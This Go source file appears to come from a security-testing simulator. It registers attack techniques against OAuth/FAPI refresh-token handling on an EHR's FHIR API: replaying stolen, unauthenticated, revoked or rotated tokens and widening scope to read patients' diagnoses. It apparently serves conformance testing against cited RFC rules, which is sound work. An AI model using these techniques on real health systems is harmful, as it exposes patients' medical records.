package attacker

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"time"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("L-01", Technique{
	Variant: "stolen",
	Title:   "A stolen refresh token",
	Story: "The thief has a backup of the EHR's session table, with a refresh token for each clinician at work. He uses one with the " +
		"credentials of his own app.",
	Reads: []string{"RFC 9700 s4.14", "RFC 6749 s6, s10.4"},
	Has:   []event.Asset{event.ClientDatabase, event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		return a.refreshStolen(ctx, nil)
	},
})

var _ = register("L-02", Technique{
	Variant: "no-credentials",
	Title:   "A refresh token without client authentication",
	Story: "The thief has a refresh token from a backup of the EHR's session table. He sends it with the EHR's client_id, which is public, " +
		"and nothing that proves he is the EHR.",
	Reads: []string{"FAPI 2.0 SP 5.3.2.1-6", "OIDF conformance suite, refresh-token"},
	Has:   []event.Asset{event.ClientDatabase},
	Run: func(ctx context.Context, g Ground) error {
		c := noCredentials
		c.ClientID = g.Target().ClientID
		a, err := newApp(ctx, g, c)
		if err != nil {
			return err
		}
		return a.refreshStolen(ctx, nil)
	},
})

var _ = register("L-03", Technique{
	Variant: "wider-scope",
	Title:   "A refresh asks for more than was granted",
	Story: "The thief's own app got a grant for observations only. When it refreshes, it asks for everything, and reads a patient's " +
		"diagnoses.",
	Reads: []string{"RFC 6749 s6", "RFC 9700 s4.14"},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		t, err := a.signIn(ctx, "openid offline_access user/Observation.rs", g.Target().FHIRBase)
		if err != nil {
			return err
		}
		return a.refresh(ctx, t.RefreshToken, url.Values{"scope": {"openid offline_access user/*.rs"}}, nil)
	},
})

var _ = register("L-04/refresh", Technique{
	Variant: "revoked",
	Title:   "A revoked refresh token still works",
	Story: "The thief has a backup of the EHR: its session table, and all of its keys. The breach is noticed, or it is just evening: the " +
		"clinician signs out, and the EHR revokes her tokens. The thief refreshes hers after that.",
	Reads: []string{"RFC 7009 s2", "FAPI 2.0 SP 6.8"},
	Has:   []event.Asset{event.ClientDatabase, event.ClientKey, event.DPoPKey},
	Run: func(ctx context.Context, g Ground) error {
		a, err := victimsApp(ctx, g)
		if err != nil {
			return err
		}
		if err := g.Lure(g.Target().ClientLogout); err != nil {
			return err
		}
		return a.refreshStolen(ctx, nil)
	},
})

var _ = register("L-11", Technique{
	Variant: "replaced",
	Title:   "A refresh token that was replaced still works",
	Story: "The thief has a backup of the EHR: its session table, and its credentials. He waits, and meanwhile the EHR refreshes and gets a new " +
		"refresh token. Then he uses the old one, every now and then, for ever: the EHR's own works on, and nobody notices.",
	Reads: []string{"RFC 9700 s4.14.2", "FAPI 2.0 SP 5.3.2.1-9 note 1"},
	Has:   []event.Asset{event.ClientDatabase, event.ClientKey, event.DPoPKey}, Against: []Trait{Rotated},
	Run: func(ctx context.Context, g Ground) error {
		a, err := victimsApp(ctx, g)
		if err != nil {
			return err
		}
		g.Wait(2 * hour) // her access token expires
		if err := g.Lure(g.Target().ClientRecord + stranger(g)); err != nil {
			return err
		}
		g.Wait(10 * time.Minute) // longer than a client takes to ask again
		return a.refreshStolen(ctx, nil)
	},
})

// refreshStolen uses the refresh token of the first session in the stolen table.
func (a *app) refreshStolen(ctx context.Context, spoil func(*http.Request, url.Values)) error {
	token, err := stolenRefreshToken(a.g)
	if err != nil {
		return err
	}
	return a.refresh(ctx, token, url.Values{}, spoil)
}

// stolenRefreshToken is that of the first session in the stolen table.
func stolenRefreshToken(g Ground) (string, error) {
	var sessions []struct {
		RefreshToken string `json:"refresh_token"`
	}
	if err := json.Unmarshal(g.Stolen(event.ClientDatabase), &sessions); err != nil {
		return "", fmt.Errorf("the stolen session table: %w", err)
	}
	for _, s := range sessions {
		if s.RefreshToken != "" {
			return s.RefreshToken, nil
		}
	}
	return "", fmt.Errorf("the stolen session table holds no refresh token")
}

func (a *app) refresh(ctx context.Context, token string, extra url.Values, spoil func(*http.Request, url.Values)) error {
	extra.Set("grant_type", "refresh_token")
	extra.Set("refresh_token", token)
	extra.Set("resource", a.g.Target().FHIRBase)
	t, err := a.token(ctx, extra, spoil)
	if err != nil {
		return err
	}
	return a.readCondition(ctx, t)
}

// readCondition reads a stranger's diagnoses: something no narrow scope covers.
func (a *app) readCondition(ctx context.Context, t fapi.TokenResponse) error {
	_, err := a.read(ctx, a.g.Target().FHIRBase+"/Condition?patient="+url.QueryEscape(stranger(a.g)), t)
	return err
}
